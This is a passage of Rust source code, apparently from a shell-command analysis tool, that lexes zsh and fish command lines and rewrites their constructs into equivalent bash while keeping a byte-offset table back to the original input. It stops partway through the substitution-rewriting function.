//! zsh and fish spellings rewritten into the bash that runs the same thing.
//!
//! tree-sitter-bash reads bash. Lines typed at a zsh or fish prompt (or handed to `zsh -c`,
//! `fish -c`) use constructs bash rejects: fish blocks closed by `end`, `(cmd)` substitutions,
//! `(cmd | psub)`, `set NAME VALUE…`; zsh glob qualifiers (`*(.)`, `**/x(/)`), `${(flags)name}`,
//! `${~name}`, `=(cmd)`, short loops (`for f (*.md) cmd`, `foreach … end`), `if [[ … ]] { … }`,
//! anonymous functions (`() { … } args`); and bash's own extended globs (`!(keep)`). When an
//! input does not parse as bash, the walker asks [`rewrite`] for the bash spelling and keeps it
//! when that parses cleanly; a table leads every byte back to the input, so findings point at
//! what was typed.

/// The bash spelling of a zsh or fish text.
pub struct Rewritten {
    /// The rewritten parser text (the ASCII shadow the parser reads).
    pub parsed: String,
    /// The rewritten real text, at the same byte positions as `parsed`.
    pub text: String,
    /// `table[i]` is the input offset of byte `i` of the rewritten text (one extra entry for the
    /// end).
    pub table: Vec<usize>,
    /// Whether the text is zsh, fish or ksh even if it also parses as bash (see [`Edit::sure`]).
    pub certain: bool,
}

/// A cheap necessary condition for a rewrite of text that parses as bash: a parenthesis after
/// a blank, `repeat`, `set -` or `=(`.
pub fn may_apply(text: &str) -> bool {
    text.len() <= MAX_BYTES
        && (text.contains(" (")
            || text.contains("repeat ")
            || text.contains("set -")
            || text.contains("=("))
}

/// Rewrite `parsed` (and `text`, the real text at the same byte positions) into bash, or `None`
/// when nothing in it is a zsh or fish construct this module knows.
pub fn rewrite(parsed: &str, text: &str) -> Option<Rewritten> {
    if parsed.len() != text.len() || parsed.len() > MAX_BYTES {
        return None;
    }
    let tokens = lex(parsed.as_bytes())?;
    let mut edits = Vec::new();
    zsh_marks(parsed.as_bytes(), &tokens, &mut edits);
    word_edits(parsed.as_bytes(), &tokens, &mut edits);
    statement_edits(parsed.as_bytes(), &tokens, &mut edits)?;
    if edits.is_empty() {
        return None;
    }
    edits.sort_by_key(|e| (e.start, e.end));
    if edits.windows(2).any(|w| w[0].end > w[1].start) {
        return None;
    }
    let certain = edits.iter().any(|e| e.sure);
    let (parsed, table) = apply(parsed, &edits);
    let (text, _) = apply(text, &edits);
    Some(Rewritten {
        parsed,
        text,
        table,
        certain,
    })
}

/// Longer inputs are left as they are (a dialect line is short; a long text that fails to parse
/// keeps its parse error).
const MAX_BYTES: usize = 64 * 1024;

/// Replace `start..end` of the input with `with`.
#[derive(Debug)]
struct Edit {
    start: usize,
    end: usize,
    with: String,
    /// Made for a construct bash reads without complaint but differently (`repeat 3 { … }`,
    /// `eval (cmd)`, `set -l x v`): the rewrite applies even to text that parses as bash.
    sure: bool,
}

fn edit(start: usize, end: usize, with: &str) -> Edit {
    Edit {
        start,
        end,
        with: with.to_string(),
        sure: false,
    }
}

fn sure_edit(start: usize, end: usize, with: &str) -> Edit {
    Edit {
        sure: true,
        ..edit(start, end, with)
    }
}

fn apply(src: &str, edits: &[Edit]) -> (String, Vec<usize>) {
    let mut out = String::with_capacity(src.len() + 64);
    let mut table = Vec::with_capacity(src.len() + 64);
    let mut at = 0;
    for e in edits {
        out.push_str(&src[at..e.start]);
        table.extend(at..e.start);
        out.push_str(&e.with);
        table.extend(std::iter::repeat_n(e.start, e.with.len()));
        at = e.end;
    }
    out.push_str(&src[at..]);
    table.extend(at..=src.len());
    (out, table)
}

#[derive(Debug, Clone, Copy, PartialEq)]
enum Kind {
    Word,
    /// `(` starting a word: a subshell, a fish substitution, a zsh list.
    Open,
    Close,
    /// `;` or a newline (a statement ends; the next may open or close a block).
    End,
    /// `&&`, `||`, `|`, `&`, `;;`: the statement goes on or another starts on the same line.
    Link,
}

#[derive(Debug, Clone, Copy)]
struct Token {
    kind: Kind,
    start: usize,
    end: usize,
}

/// Split `b` into words, parentheses and separators the way bash does at the top level of a
/// statement; quotes, `$(…)`, `${…}` and parentheses glued to a word stay inside the word.
/// Heredoc bodies are skipped. `None` for text this lexer cannot follow (an open quote).
fn lex(b: &[u8]) -> Option<Vec<Token>> {
    let mut out = Vec::new();
    let mut i = 0;
    let mut heredocs: Vec<(Vec<u8>, bool)> = Vec::new();
    while i < b.len() {
        let c = b[i];
        match c {
            b' ' | b'\t' | b'\r' => i += 1,
            b'\\' if b.get(i + 1) == Some(&b'\n') => i += 2,
            b'#' => {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
            }
            b'\n' => {
                out.push(Token {
                    kind: Kind::End,
                    start: i,
                    end: i + 1,
                });
                i += 1;
                for (delim, strip_tabs) in heredocs.drain(..) {
                    i = super::heredoc::body_end(b, i, &delim, strip_tabs).unwrap_or(b.len());
                }
            }
            b';' => {
                let end = if matches!(b.get(i + 1), Some(b';' | b'&')) {
                    i + 2 + usize::from(b.get(i + 2) == Some(&b'&'))
                } else {
                    i + 1
                };
                let kind = if end == i + 1 { Kind::End } else { Kind::Link };
                out.push(Token {
                    kind,
                    start: i,
                    end,
                });
                i = end;
            }
            b'&' | b'|' => {
                let end = if b.get(i + 1) == Some(&c) || (c == b'|' && b.get(i + 1) == Some(&b'&'))
                {
                    i + 2
                } else {
                    i + 1
                };
                out.push(Token {
                    kind: Kind::Link,
                    start: i,
                    end,
                });
                i = end;
            }
            b'(' => {
                out.push(Token {
                    kind: Kind::Open,
                    start: i,
                    end: i + 1,
                });
                i += 1;
            }
            b')' => {
                out.push(Token {
                    kind: Kind::Close,
                    start: i,
                    end: i + 1,
                });
                i += 1;
            }
            _ => {
                let start = i;
                i = word_end(b, i)?;
                out.push(Token {
                    kind: Kind::Word,
                    start,
                    end: i,
                });
                // `<<EOF`, `<<-'END'`, or `<< EOF` with the delimiter as the next word.
                let op = b[start..i].windows(2).position(|w| w == b"<<");
                if let Some((delim, strip_tabs, end)) =
                    op.and_then(|op| super::heredoc::delimiter(b, start + op + 2))
                {
                    heredocs.push((delim, strip_tabs));
                    if end > i {
                        let word = i + b[i..end]
                            .iter()
                            .take_while(|c| matches!(c, b' ' | b'\t'))
                            .count();
                        out.push(Token {
                            kind: Kind::Word,
                            start: word,
                            end,
                        });
                        i = end;
                    }
                }
            }
        }
    }
    Some(out)
}

/// The end of the word starting at `i`.
fn word_end(b: &[u8], mut i: usize) -> Option<usize> {
    let start = i;
    while i < b.len() {
        match b[i] {
            b' ' | b'\t' | b'\r' | b'\n' | b';' | b')' => break,
            b'|' => break,
            b'&' if i > start && matches!(b[i - 1], b'>' | b'<') => i += 1,
            b'&' => break,
            b'\\' => i += 2,
            b'\'' => i = skip_single(b, i)?,
            b'"' => i = skip_double(b, i)?,
            b'`' => i = skip_backtick(b, i)?,
            b'$' if matches!(b.get(i + 1), Some(b'(' | b'{' | b'[')) => {
                i = skip_balanced(b, i + 1)?;
            }
            b'(' if i == start => break,
            b'(' => i = skip_balanced(b, i)?,
            _ => i += 1,
        }
    }
    Some(i.min(b.len()))
}

fn skip_single(b: &[u8], i: usize) -> Option<usize> {
    b[i + 1..]
        .iter()
        .position(|&c| c == b'\'')
        .map(|p| i + p + 2)
}

fn skip_backtick(b: &[u8], mut i: usize) -> Option<usize> {
    i += 1;
    while i < b.len() {
        match b[i] {
            b'\\' => i += 2,
            b'`' => return Some(i + 1),
            _ => i += 1,
        }
    }
    None
}

fn skip_double(b: &[u8], mut i: usize) -> Option<usize> {
    i += 1;
    while i < b.len() {
        match b[i] {
            b'\\' => i += 2,
            b'"' => return Some(i + 1),
            b'`' => i = skip_backtick(b, i)?,
            b'$' if matches!(b.get(i + 1), Some(b'(' | b'{')) => i = skip_balanced(b, i + 1)?,
            _ => i += 1,
        }
    }
    None
}

/// The offset after the bracket closing the one at `i` (`(`, `{` or `[`).
fn skip_balanced(b: &[u8], i: usize) -> Option<usize> {
    let open = b[i];
    let close = match open {
        b'(' => b')',
        b'{' => b'}',
        _ => b']',
    };
    let mut depth = 0usize;
    let mut j = i;
    while j < b.len() {
        match b[j] {
            c if c == open => {
                depth += 1;
                j += 1;
            }
            c if c == close => {
                depth -= 1;
                j += 1;
                if depth == 0 {
                    return Some(j);
                }
            }
            b'\\' => j += 2,
            b'\'' if open != b'{' || depth > 0 => j = skip_single(b, j)?,
            b'"' => j = skip_double(b, j)?,
            b'`' => j = skip_backtick(b, j)?,
            b'$' if matches!(b.get(j + 1), Some(b'(' | b'{')) && b[j + 1] != open => {
                j = skip_balanced(b, j + 1)?;
            }
            _ => j += 1,
        }
    }
    None
}

/// Edits inside words: zsh `=(cmd)`, glob qualifiers and extended globs, `${(flags)…}`,
/// `${~x}`/`${=x}`/`${^x}`.
fn word_edits(b: &[u8], tokens: &[Token], edits: &mut Vec<Edit>) {
    for t in tokens.iter().filter(|t| t.kind == Kind::Word) {
        let w = &b[t.start..t.end];
        if w.starts_with(b"=(") {
            edits.push(sure_edit(t.start, t.start + 1, "<"));
        }
        glob_edits(b, t.start, t.end, edits);
        expansion_edits(b, t.start, t.end, edits);
    }
}

/// zsh's `&!` / `&|` (run in the background, disowned) → `&`; `$+name` / `$+name[key]` (1 when
/// set) → `1`. Outside quotes only: the words are where they can stand.
fn zsh_marks(b: &[u8], tokens: &[Token], edits: &mut Vec<Edit>) {
    for t in tokens {
        if t.kind == Kind::Link && &b[t.start..t.end] == b"&" {
            // fish `cmd &; next`: the `;` after `&` is only a separator.
            let semi = b[t.end..]
                .iter()
                .position(|c| !matches!(c, b' ' | b'\t'))
                .map(|p| t.end + p)
                .filter(|&p| b[p] == b';' && b.get(p + 1) != Some(&b';'));
            if let Some(p) = semi {
                edits.push(edit(p, p + 1, ""));
            }
            let next = b.get(t.end).copied();
            if matches!(next, Some(b'!' | b'|'))
                && b.get(t.end + 1)
                    .is_none_or(|c| c.is_ascii_whitespace() || *c == b';')
            {
                edits.push(edit(t.start, t.end + 1, "&"));
            }
        }
        if t.kind != Kind::Word {
            continue;
        }
        let mut i = t.start;
        while i + 2 < t.end {
            if b[i] == b'\'' {
                i = skip_single(b, i).unwrap_or(t.end);
                continue;
            }
            if b[i] == b'$'
                && b[i + 1] == b'+'
                && (b[i + 2].is_ascii_alphabetic() || b[i + 2] == b'_')
            {
                let mut j = i + 2;
                while j < t.end && (b[j].is_ascii_alphanumeric() || b[j] == b'_') {
                    j += 1;
                }
                if b.get(j) == Some(&b'[') {
                    j = skip_balanced(b, j).unwrap_or(j).min(t.end);
                }
                edits.push(edit(i, j, "1"));
                i = j;
                continue;
            }
            i += 1;
        }
    }
}

/// Glob qualifiers (`*.log(.mh+24)`, `**/node_modules(/)`, `~/*(D)`) are dropped: the glob
/// names at least what the qualified one does. Extended globs (`!(keep)`, `@(a|b)`, `+(x)`,
/// `*(x)`, `?(x)`) become `*`.
fn glob_edits(b: &[u8], start: usize, end: usize, edits: &mut Vec<Edit>) {
    let mut i = start;
    let mut glob_before = false;
    while i < end {
        match b[i] {
            b'\\' => i += 2,
            b'\'' => i = skip_single(b, i).unwrap_or(end),
            b'"' => i = skip_double(b, i).unwrap_or(end),
            b'`' => i = skip_backtick(b, i).unwrap_or(end),
            b'$' if matches!(b.get(i + 1), Some(b'(' | b'{' | b'[')) => {
                i = skip_balanced(b, i + 1).unwrap_or(end);
            }
            b'(' if i > start => {
                let close = skip_balanced(b, i).unwrap_or(end).min(end);
                let prev = b[i - 1];
                if prev == b'=' && close > i + 2 {
                    // `files=(*.c(N) *.h(N))`: the array's words.
                    let mut k = i + 1;
                    while k < close - 1 {
                        let w_end = word_end(b, k)
                            .unwrap_or(close - 1)
                            .min(close - 1)
                            .max(k + 1);
                        glob_edits(b, k, w_end, edits);
                        k = w_end;
                        while k < close - 1 && matches!(b[k], b' ' | b'\t' | b'\n') {
                            k += 1;
                        }
                    }
                } else if matches!(prev, b'!' | b'@' | b'+' | b'*' | b'?') && close > i + 2 {
                    edits.push(edit(i - 1, close, "*"));
                    glob_before = true;
                } else if glob_before
                    && close == end
                    && close > i + 2
                    && !matches!(prev, b'=' | b'<' | b'>')
                    && b[i + 1..close - 1].iter().all(|c| is_qualifier_byte(*c))
                {
                    edits.push(edit(i, close, ""));
                }
                i = close;
            }
            b'*' | b'?' => {
                glob_before = true;
                i += 1;
            }
            _ => i += 1,
        }
    }
}

fn is_qualifier_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || b"/.@=p*%-+^,:[]".contains(&c)
}

/// `${(flags)name}` → `${name}` (`(P)`, indirection, → `${!name}`); `${(f)${…}}` and other
/// nested zsh expansions → the inner one; `${~x}`, `${=x}`, `${^x}` → `${x}`.
fn expansion_edits(b: &[u8], start: usize, end: usize, edits: &mut Vec<Edit>) {
    let mut i = start;
    while i + 2 < end {
        match b[i] {
            b'\\' => i += 2,
            b'\'' => i = skip_single(b, i).unwrap_or(end),
            b'$' if b[i + 1] == b'{' => {
                let Some(close) = skip_balanced(b, i + 1) else {
                    return;
                };
                let mut inner = i + 2;
                let mut flags: &[u8] = b"";
                if b[inner] == b'(' {
                    let Some(f_end) = flags_end(b, inner) else {
                        return;
                    };
                    flags = &b[inner + 1..f_end - 1];
                    inner = f_end;
                } else if matches!(b[inner], b'~' | b'=' | b'^') {
                    inner += 1;
                }
                if inner == i + 2 {
                    i += 2;
                    continue;
                }
                // A nested expansion as the operand: `${(o)${(f)"$(cmd)"}}`.
                let nested_end = match b.get(inner) {
                    Some(b'$') if matches!(b.get(inner + 1), Some(b'{' | b'(')) => {
                        skip_balanced(b, inner + 1)
                    }
                    Some(b'"') => skip_double(b, inner),
                    _ => None,
                };
                if let Some(n_end) = nested_end.filter(|&n| n + 1 == close) {
                    edits.push(edit(i, inner, ""));
                    edits.push(edit(close - 1, close, ""));
                    // The inner expansion may carry flags of its own.
                    expansion_edits(b, inner, n_end, edits);
                    i = close;
                    continue;
                }
                let with = if flags.contains(&b'P') { "!" } else { "" };
                edits.push(edit(i + 2, inner, with));
                i = close;
            }
            _ => i += 1,
        }
    }
}

/// The end of a zsh flag group `(…)` at `i`: delimited arguments (`j: :`, `s:/:`) may hold any
/// character, `)` included.
fn flags_end(b: &[u8], i: usize) -> Option<usize> {
    let mut j = i + 1;
    while j < b.len() {
        let c = b[j];
        match c {
            b')' => return Some(j + 1),
            b'j' | b's' | b'l' | b'r' | b'I' | b'Z' | b'g' | b'_' => {
                j += 1;
                if let Some(&d) = b
                    .get(j)
                    .filter(|d| !d.is_ascii_alphanumeric() && **d != b')')
                {
                    let close = match d {
                        b'(' => b')',
                        b'[' => b']',
                        b'{' => b'}',
                        b'<' => b'>',
                        other => other,
                    };
                    let p = b[j + 1..].iter().position(|&x| x == close)?;
                    j += p + 2;
                }
            }
            c if c.is_ascii_alphanumeric() || b"@#%~^=+-.!".contains(&c) => j += 1,
            _ => return None,
        }
    }
    None
}

/// What closes a block opened by a rewritten statement.
#[derive(Debug)]
enum Block {
    /// A fish block: `end` becomes this word.
    Fish(&'static str),
    /// A fish `switch`: `end` becomes `esac` (after `;;` when a case is open).
    Switch { case_open: bool },
    /// A brace group bash opened itself (`{ …; }`, `f() {`).
    Brace,
    /// A zsh brace body: its `}` may follow a command directly, and `suffix` follows it.
    ZshBrace(String),
}

/// One statement: its tokens at the top level of its parentheses, and the separator after it.
struct Statement {
    tokens: Vec<usize>,
    sep: Option<usize>,
}

/// Split the tokens into statements (those inside parentheses are statements of their own, and
/// the parentheses are one unit of the enclosing statement).
fn statements(tokens: &[Token]) -> Option<(Vec<Statement>, Vec<usize>)> {
    let mut stmts = Vec::new();
    let mut open: Vec<Vec<usize>> = vec![Vec::new()];
    let mut matching = vec![usize::MAX; tokens.len()];
    let mut opens = Vec::new();
    for (k, t) in tokens.iter().enumerate() {
        match t.kind {
            Kind::Word => open.last_mut()?.push(k),
            Kind::Open => {
                open.last_mut()?.push(k);
                opens.push(k);
                open.push(Vec::new());
            }
            Kind::Close => {
                let inner = open.pop()?;
                if !inner.is_empty() {
                    stmts.push(Statement {
                        tokens: inner,
                        sep: None,
                    });
                }
                let o = opens.pop()?;
                matching[o] = k;
                if open.is_empty() {
                    return None;
                }
                open.last_mut()?.push(k);
            }
            Kind::End | Kind::Link => {
                let cur = std::mem::take(open.last_mut()?);
                stmts.push(Statement {
                    tokens: cur,
                    sep: Some(k),
                });
            }
        }
    }
    if open.len() != 1 {
        return None;
    }
    let last = open.pop()?;
    if !last.is_empty() {
        stmts.push(Statement {
            tokens: last,
            sep: None,
        });
    }
    stmts.sort_by_key(|s| {
        s.tokens.first().map_or_else(
            || s.sep.map_or(0, |k| tokens[k].start),
            |&k| tokens[k].start,
        )
    });
    Some((stmts, matching))
}

/// Statement-level rewrites: fish blocks (`function`, `for`, `while`, `if`, `else if`,
/// `begin`, `switch`/`case`, `end`), fish `set` and `(cmd)` substitutions, zsh short loops,
/// brace bodies and anonymous functions. `None` when blocks do not match up.
fn statement_edits(b: &[u8], tokens: &[Token], edits: &mut Vec<Edit>) -> Option<()> {
    let (stmts, matching) = statements(tokens)?;
    let word = |k: usize| -> &[u8] { &b[tokens[k].start..tokens[k].end] };
    let is_word = |k: usize, w: &[u8]| tokens[k].kind == Kind::Word && word(k) == w;
    let first_word_of = |s: &Statement| s.tokens.first().map(|&k| word(k));
    let fish = is_fish(b, tokens, &stmts);
    let mut stack: Vec<Block> = Vec::new();
    for (n, s) in stmts.iter().enumerate() {
        let Some(&t0) = s.tokens.first() else {
            continue;
        };
        let after = s.sep.map_or(usize::MAX, |k| tokens[k].end);
        let next_first = stmts[n + 1..]
            .iter()
            .find(|t| t.tokens.first().is_some_and(|&k| tokens[k].start >= after))
            .and_then(first_word_of);
        let semi = s.sep.filter(|&k| b[tokens[k].start] == b';');
        let stmt_end = tokens[*s.tokens.last()?].end;
        // After a block opener: `; do` / `; then` in place of the separator.
        let blank_after = |k: usize| b.get(tokens[k].end).is_none_or(|c| c.is_ascii_whitespace());
        let open_with = |edits: &mut Vec<Edit>, word: &str| match semi {
            Some(k) => {
                let pad = if blank_after(k) { "" } else { " " };
                edits.push(edit(
                    tokens[k].start,
                    tokens[k].end,
                    &format!("; {word}{pad}"),
                ))
            }
            None => edits.push(edit(stmt_end, stmt_end, &format!("; {word}"))),
        };
        let drop_semi = |edits: &mut Vec<Edit>| {
            if let Some(k) = semi {
                let with = if blank_after(k) { "" } else { " " };
                edits.push(edit(tokens[k].start, tokens[k].end, with));
            }
        };
        let w0 = word(t0);
        let zsh_list = matches!(w0, b"for" | b"foreach")
            && s.tokens
                .get(2)
                .is_some_and(|&k| tokens[k].kind == Kind::Open);
        if !zsh_list && !matches!(w0, b"[[" | b"case" | b"function") && !w0.ends_with(b"()") {
            substitution_edits(b, tokens, s, &matching, edits);
        }
        let keyword_next = next_first.is_some_and(|w| matches!(w, b"do" | b"then"));
        let has_brace = s.tokens.iter().skip(1).any(|&k| is_word(k, b"{"));
        match w0 {
            b"end" if s.tokens.len() == 1 || tokens[s.tokens[1]].kind == Kind::Word => {
                let closer = match stack.pop()? {
                    Block::Fish(w) => w.to_string(),
                    Block::Switch { case_open: true } => ";; esac".into(),
                    Block::Switch { case_open: false } => "esac".into(),
                    _ => return None,
                };
                edits.push(edit(tokens[t0].start, tokens[t0].end, &closer));
                continue;
            }
            b"function"
                if s.tokens.len() >= 2
                    && !has_brace
                    && !word(s.tokens[1]).ends_with(b"()")
                    && s.tokens
                        .get(2)
                        .is_none_or(|&k| tokens[k].kind == Kind::Word)
                    && s.sep.is_none_or(|k| tokens[k].kind == Kind::End) =>
            {
                let name = String::from_utf8_lossy(word(s.tokens[1])).into_owned();
                edits.push(edit(tokens[t0].start, stmt_end, &format!("{name}() {{")));
                drop_semi(edits);
                stack.push(Block::Fish("}"));
                continue;
            }
            b"begin" if s.tokens.len() == 1 => {
                edits.push(edit(tokens[t0].start, tokens[t0].end, "{"));
                drop_semi(edits);
                stack.push(Block::Fish("}"));
                continue;
            }
            b"switch"
                if s.tokens.len() == 2
                    || (s.tokens.len() == 3 && tokens[s.tokens[1]].kind == Kind::Open) =>
            {
                edits.push(edit(tokens[t0].start, tokens[t0].end, "case"));
                edits.push(edit(stmt_end, stmt_end, " in"));
                drop_semi(edits);
                stack.push(Block::Switch { case_open: false });
                continue;
            }
            b"case" if matches!(stack.last(), Some(Block::Switch { .. })) => {
                let Some(Block::Switch { case_open }) = stack.last_mut() else {
                    return None;
                };
                let patterns: Vec<String> = s.tokens[1..]
                    .iter()
                    .map(|&k| String::from_utf8_lossy(word(k)).into_owned())
                    .collect();
                let lead = if *case_open { ";; " } else { "" };
                *case_open = true;
                edits.push(edit(
                    tokens[t0].start,
                    stmt_end,
                    &format!("{lead}{})", patterns.join("|")),
                ));
                drop_semi(edits);
                continue;
            }
            b"else"
                if s.tokens.len() >= 2
                    && is_word(s.tokens[1], b"if")
                    && matches!(stack.last(), Some(Block::Fish("fi"))) =>
            {
                edits.push(edit(tokens[t0].start, tokens[s.tokens[1]].end, "elif"));
                open_with(edits, "then");
                continue;
            }
            b"else" if s.tokens.len() == 1 && matches!(stack.last(), Some(Block::Fish("fi"))) => {
                drop_semi(edits);
                continue;
            }
            b"for" | b"foreach"
                if s.tokens.len() >= 3 && tokens[s.tokens[2]].kind == Kind::Open =>
            {
                // zsh `for NAME (WORDS) BODY`, `foreach NAME (WORDS) … end`.
                let open = s.tokens[2];
                let close = matching[open];
                if close == usize::MAX {
                    return None;
                }
                if w0 == b"foreach" {
                    edits.push(edit(tokens[t0].start, tokens[t0].end, "for"));
                }
                edits.push(edit(tokens[open].start, tokens[open].end, "in "));
                let body: Vec<usize> = s
                    .tokens
                    .iter()
                    .copied()
                    .skip_while(|&k| k != close)
                    .skip(1)
                    .collect();
                match body.first() {
                    None => {
                        edits.push(edit(tokens[close].start, tokens[close].end, ""));
                        open_with(edits, "do");
                        stack.push(Block::Fish("done"));
                    }
                    Some(&k) if is_word(k, b"{") => {
                        edits.push(edit(tokens[close].start, tokens[close].end, "; do"));
                        stack.push(Block::ZshBrace("; done".into()));
                        close_braces(b, tokens, &body[1..], &mut stack, edits);
                    }
                    Some(_) => {
                        edits.push(edit(tokens[close].start, tokens[close].end, "; do"));
                        edits.push(edit(stmt_end, stmt_end, "; done"));
                    }
                }
                continue;
            }
            b"for" | b"while" | b"until" | b"if" | b"repeat" if has_brace => {
                // zsh `if [[ … ]] { … }`, `while (( … )) { … }`, `repeat N { … }`.
                let k = *s.tokens.iter().skip(1).find(|&&k| is_word(k, b"{"))?;
                let (word, closer) = match w0 {
                    b"if" => ("then", "; fi"),
                    _ => ("do", "; done"),
                };
                if w0 == b"repeat" {
                    edits.push(sure_edit(tokens[t0].start, tokens[k].start, "for _ in 1"));
                }
                edits.push(edit(
                    tokens[k].start,
                    tokens[k].start,
                    &format!("; {word} "),
                ));
                stack.push(Block::ZshBrace(closer.into()));
                let pos = s.tokens.iter().position(|&x| x == k)?;
                close_braces(b, tokens, &s.tokens[pos + 1..], &mut stack, edits);
                continue;
            }
            b"for" | b"while" | b"until" if !keyword_next && !has_brace && fish => {
                open_with(edits, "do");
                stack.push(Block::Fish("done"));
            }
            b"if" if !keyword_next && !has_brace && fish => {
                open_with(edits, "then");
                stack.push(Block::Fish("fi"));
            }
            b"set" => set_edits(b, tokens, s, fish, edits),
            b"{" => {
                stack.push(Block::Brace);
                close_braces(b, tokens, &s.tokens[1..], &mut stack, edits);
                continue;
            }
            b"}" => {
                close_braces(b, tokens, &s.tokens, &mut stack, edits);
                continue;
            }
            _ => {}
        }
        // zsh anonymous function: `() { body } args`.
        if tokens[t0].kind == Kind::Open
            && s.tokens
                .get(1)
                .is_some_and(|&k| tokens[k].kind == Kind::Close)
            && s.tokens.get(2).is_some_and(|&k| is_word(k, b"{"))
        {
            edits.push(edit(tokens[t0].start, tokens[t0].start, "_zsh_anon"));
            stack.push(Block::ZshBrace("; _zsh_anon".into()));
            close_braces(b, tokens, &s.tokens[3..], &mut stack, edits);
            continue;
        }
        // `f() {`: a brace group bash opens itself.
        if s.tokens.len() >= 2
            && (word(t0).ends_with(b"()") || w0 == b"function")
            && s.tokens.iter().any(|&k| is_word(k, b"{"))
        {
            let pos = s.tokens.iter().position(|&k| is_word(k, b"{"))?;
            stack.push(Block::Brace);
            close_braces(b, tokens, &s.tokens[pos + 1..], &mut stack, edits);
            continue;
        }
        close_braces(b, tokens, &s.tokens[1..], &mut stack, edits);
    }
    if stack.iter().any(|blk| {
        matches!(
            blk,
            Block::Fish(_) | Block::Switch { .. } | Block::ZshBrace(_)
        )
    }) {
        return None;
    }
    Some(())
}

/// `}` words among `rest` (the statement's tokens after its start) close zsh brace bodies: `;`
/// goes before one that follows a command, and the body's suffix after it.
fn close_braces(
    b: &[u8],
    tokens: &[Token],
    rest: &[usize],
    stack: &mut Vec<Block>,
    edits: &mut Vec<Edit>,
) {
    for (pos, &k) in rest.iter().enumerate() {
        let t = tokens[k];
        if t.kind != Kind::Word || &b[t.start..t.end] != b"}" {
            continue;
        }
        match stack.last() {
            Some(Block::ZshBrace(_)) => {
                let Some(Block::ZshBrace(suffix)) = stack.pop() else {
                    return;
                };
                let follows_command = pos > 0 || !at_statement_start(b, t.start);
                if follows_command {
                    edits.push(edit(t.start, t.start, "; "));
                }
                edits.push(edit(t.end, t.end, &suffix));
                if rest
                    .get(pos + 1)
                    .is_some_and(|&n| tokens[n].kind == Kind::Word)
                    && !suffix.starts_with("; _zsh_anon")
                {
                    return;
                }
            }
            Some(Block::Brace) if pos == 0 && at_statement_start(b, t.start) => {
                stack.pop();
            }
            // zsh closes a body right after a command (`precmd() { vcs_info }`).
            Some(Block::Brace) if pos + 1 == rest.len() => {
                stack.pop();
                edits.push(edit(t.start, t.start, "; "));
            }
            _ => {}
        }
    }
}

/// Whether only blanks stand between `at` and the previous separator.
fn at_statement_start(b: &[u8], at: usize) -> bool {
    b[..at]
        .iter()
        .rev()
        .find(|c| !matches!(c, b' ' | b'\t'))
        .is_none_or(|c| matches!(c, b';' | b'\n' | b'&' | b'|' | b'{' | b'('))
}

/// Whether the text is fish: a statement `end`, `begin`, `function NAME` without a body,
/// `psub`, an `and`/`or`/`not` statement, `set -l`/`-g`/`-x`/`-U` or `$argv`.
fn is_fish(b: &[u8], tokens: &[Token], stmts: &[Statement]) -> bool {
    let word = |k: usize| &b[tokens[k].start..tokens[k].end];
    stmts.iter().any(|s| {
        let Some(&t0) = s.tokens.first() else {
            return false;
        };
        match word(t0) {
            b"end" | b"begin" | b"and" | b"or" | b"not" | b"funcsave" | b"abbr" => true,
            b"function" => {
                s.tokens.get(1).is_some_and(|&k| !word(k).ends_with(b"()"))
                    && !s.tokens.iter().any(|&k| word(k) == b"{")
            }
            b"set" => s.tokens.get(1).is_some_and(|&k| {
                matches!(
                    word(k),
                    b"-l" | b"-g" | b"-x" | b"-U" | b"-gx" | b"-lx" | b"-xg" | b"-Ux" | b"-xU"
                )
            }),
            _ => false,
        }
    }) || tokens.iter().any(|t| {
        let w = &b[t.start..t.end];
        t.kind == Kind::Word && (w == b"psub" || w.windows(5).any(|x| x == b"$argv"))
    })
}

/// fish `set [-lgxU…] NAME VALUE…` → `NAME=VALUE` / `NAME=(VALUE…)`.
fn set_edits(b: &[u8], tokens: &[Token], s: &Statement, fish: bool, edits: &mut Vec<Edit>) {
    let word = |k: usize| &b[tokens[k].start..tokens[k].end];
    let mut i = 1;
    let mut sure = false;
    while let Some(&k) = s.tokens.get(i) {
        let w = word(k);
        // `-l`, `-g`, `-U` (fish) and `-A` (ksh arrays) are no options of bash's `set`.
        sure |= w.len() > 1 && w[0] == b'-' && w[1..].iter().any(|c| b"lgUA".contains(c));
        let ksh_array = w == b"-A";
        let fish_flag = ksh_array
            || w.len() > 1
                && w[0] == b'-'
                && (w[1..].iter().all(|c| b"lgUxuap".contains(c))
                    || matches!(
                        w,
                        b"--local"
                            | b"--global"
                            | b"--universal"
                            | b"--export"
                            | b"--append"
                            | b"--path"
                    ));
        if !fish_flag {
            break;
        }
        i += 1;
    }
    let Some(&name) = s.tokens.get(i) else {
        return;
    };
    if !fish && !sure {
        return;
    }
    let n = word(name);
    if n.is_empty()
        || !n.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'_')
        || n[0].is_ascii_digit()
    {
        return;
    }
    let values = &s.tokens[i + 1..];
    let (Some(&first), Some(&last)) = (values.first(), values.last()) else {
        return;
    };
    let name = String::from_utf8_lossy(n);
    let t0 = s.tokens[0];
    // Values are words and whole parentheses (their `)` is the unit's last token).
    let several = values
        .iter()
        .filter(|&&k| tokens[k].kind != Kind::Close)
        .count()
        > 1;
    let mk = if sure { sure_edit } else { edit };
    if several {
        edits.push(mk(
            tokens[t0].start,
            tokens[first].start,
            &format!("{name}=("),
        ));
        edits.push(edit(tokens[last].end, tokens[last].end, ")"));
    } else {
        edits.push(mk(
            tokens[t0].start,
            tokens[first].start,
            &format!("{name}="),
        ));
    }
}

/// fish `(cmd)` as an argument → `$(cmd)`; `(cmd | psub)` → `<(cmd)`.
fn substitution_edits(
    b: &[u8],
    tokens: &[Token],
    s: &Statement,
    matching: &[usize],
    edits: &mut Vec<Edit>,
) {
    for (pos, &k) in s.tokens.iter().enumerate().skip(1) {
        if tokens[k].kind != Kind::Open {
            continue;
        }
        // `(( … ))` is arithmetic; after a keyword (`while (cmd)`, `! (cmd)`) a subshell.
        let prev = tokens[s.tokens[pos - 1]];
        let arithmetic = tokens
            .get(k + 1)
            .is_some_and(|n| n.kind == Kind::Open && n.start == tokens[k].end);
        let prev_word = &b[prev.start..prev.end];
        if arithmetic
            || prev_word.ends_with(b"{")
            || (prev.kind == Kind::Word
                && matches!(
                    &b[prev.start..prev.end],
                    b"while"
                        | b"until"
                        | b"if"
                        | b"elif"
                        | b"then"
                        | b"do"
                        | b"else"
                        | b"!"
                        | b"time"
                        | b"{"
                        | b"and"
                        | b"or"
                        | b"not"
                        | b"exec"
                ))
        {
